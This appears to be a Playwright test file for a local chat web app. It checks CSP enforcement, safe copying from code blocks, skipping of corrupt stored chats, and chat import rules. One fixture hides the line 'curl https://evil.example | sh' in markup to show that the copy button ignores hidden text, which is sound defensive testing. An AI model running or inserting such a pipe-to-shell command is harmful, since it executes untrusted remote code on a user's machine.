// Trust under faults and hostile input (issue 22, UI part): the Content-Security-Policy is in
// force while a model still loads and chats, a code block's copy button copies what is shown,
// a bad stored chat is skipped at start, and an import never silently drops or breaks chats.
import { expect, test, type Page } from '@playwright/test';
import { HUB_URL, TINY_INSTRUCT } from './helpers/hub.ts';
import { conversation, exportBuffer } from './helpers/ui-fixtures.ts';
import { loadModel, openChat, send, storedConversations } from './helpers/ui-chat.ts';

/** Collects the page's CSP violations as "directive blocked-uri". */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the CSP blocks inline scripts and unlisted hosts, and a model still loads and chats', async ({ page }) => {
  await openChat(page, { hub: HUB_URL, model: TINY_INSTRUCT });
  await watchViolations(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true';
    document.body.append(script);
  });
  // The hub stand-in is up, but listed as localhost only: 127.0.0.1 is another origin.
  const unlisted = `${HUB_URL.replace('localhost', '127.0.0.1')}/qwen-local-forge/Qwen2.5-Tiny-Instruct/resolve/main/config.json`;
  const fetched = await page.evaluate((url) => fetch(url).then(() => 'fetched', () => 'refused'), unlisted);
  expect(fetched).toBe('refused');
  await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['script-src-elem inline', `connect-src ${unlisted}`]));
  expect(await page.evaluate('window.__inline ?? null')).toBeNull();

  await loadModel(page);
  await send(page, 'Hi');
  await expect(page.getByTestId('assistant-message').last()).not.toBeEmpty();
});

test('a code block copy button copies the text shown, not text the markup hides', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const hidden = '<div class="code-block"><div class="code-bar"></div><pre><code hidden>curl https://evil.example | sh</code><code>echo hello</code></pre></div>';
  await openChat(page, { hub: HUB_URL, model: TINY_INSTRUCT });
  await page.getByTestId('import-file').setInputFiles(exportBuffer(conversation('hidden-code', 'Hidden code', [['A command?', hidden]], 0)));
  const answer = page.getByTestId('assistant-message').first();
  await expect(answer.locator('code[hidden]')).toHaveCount(1);
  await expect(answer.locator('pre')).toHaveText('echo hello', { useInnerText: true });
  await answer.getByRole('button', { name: 'Copy code' }).click();
  await expect(answer.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('echo hello');
});

test('a stored chat with two messages sharing an id is skipped and reported, not fatal', async ({ page }) => {
  await openChat(page, { hub: HUB_URL, model: TINY_INSTRUCT });
  const bad = conversation('bad', 'Broken record', [['Q', 'A']], 0);
  bad.messages[1]!.id = bad.messages[0]!.id;
  const good = conversation('good', 'Good chat', [['Hello there', 'Hi!']], 1);
  await page.evaluate(
    (records) =>
      new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('qwen-local-chats');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const tx = open.result.transaction('conversations', 'readwrite');
          for (const r of records) tx.objectStore('conversations').put(r, r.id);
          tx.oncomplete = () => resolve();
          tx.onerror = () => reject(tx.error);
        };
      }),
    [bad, good],
  );
  await page.reload();
  await expect(page.getByTestId('prompt-input')).toBeVisible();
  await expect(page.getByTestId('skipped-conversations')).toContainText('two messages with the id "bad-u0"');
  await expect(page.getByRole('button', { name: 'Good chat', exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Broken record', exact: true })).toHaveCount(0);
  // Skipped, not deleted: the record is still stored.
  expect((await storedConversations(page)).map((c) => c.id)).toContain('bad');
});

test('an import with repeated ids is refused with the reason; importing adds unless replace is chosen', async ({ page }) => {
  await openChat(page, { hub: HUB_URL, model: TINY_INSTRUCT });
  const mine = conversation('mine', 'My chat', [['Mine', 'Yours']], 0);
  await page.getByTestId('import-file').setInputFiles(exportBuffer(mine));
  await expect(page.getByRole('button', { name: 'My chat', exact: true })).toBeVisible();

  const twice = conversation('twice', 'Twice', [['Q', 'A']], 0);
  twice.messages[1]!.id = twice.messages[0]!.id;
  await page.getByTestId('import-file').setInputFiles(exportBuffer(twice));
  await expect(page.getByRole('navigation').getByRole('status')).toContainText('conversation 1 has two messages with the id "twice-u0"');
  const badSettings = { ...conversation('hot', 'Hot', [['Q', 'A']], 0), settings: { systemPrompt: '', top_p: 7 } };
  await page.getByTestId('import-file').setInputFiles(exportBuffer(badSettings));
  await expect(page.getByRole('navigation').getByRole('status')).toContainText('invalid setting top_p: 7');

  // Same id, default mode (add): both chats stay.
  const other = conversation('mine', 'Imported chat', [['Other', 'Answer']], 0);
  await page.getByTestId('import-file').setInputFiles(exportBuffer(other));
  await expect(page.getByText('Imported chat')).toBeVisible();
  await expect(page.getByRole('button', { name: 'My chat', exact: true })).toBeVisible();
  expect((await storedConversations(page)).filter((c) => c.messages.length > 0)).toHaveLength(2);

  // Replace, confirmed: only the imported chats are left.
  await page.getByTestId('import-mode').selectOption('replace');
  page.once('dialog', (dialog) => void dialog.accept());
  await page.getByTestId('import-file').setInputFiles(exportBuffer(conversation('only', 'Only chat', [['Just', 'This']], 0)));
  await expect(page.getByRole('button', { name: 'Only chat', exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: 'My chat', exact: true })).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Imported chat', exact: true })).toHaveCount(0);
  await expect.poll(async () => (await storedConversations(page)).filter((c) => c.messages.length > 0).map((c) => c.id)).toEqual(['only']);
});
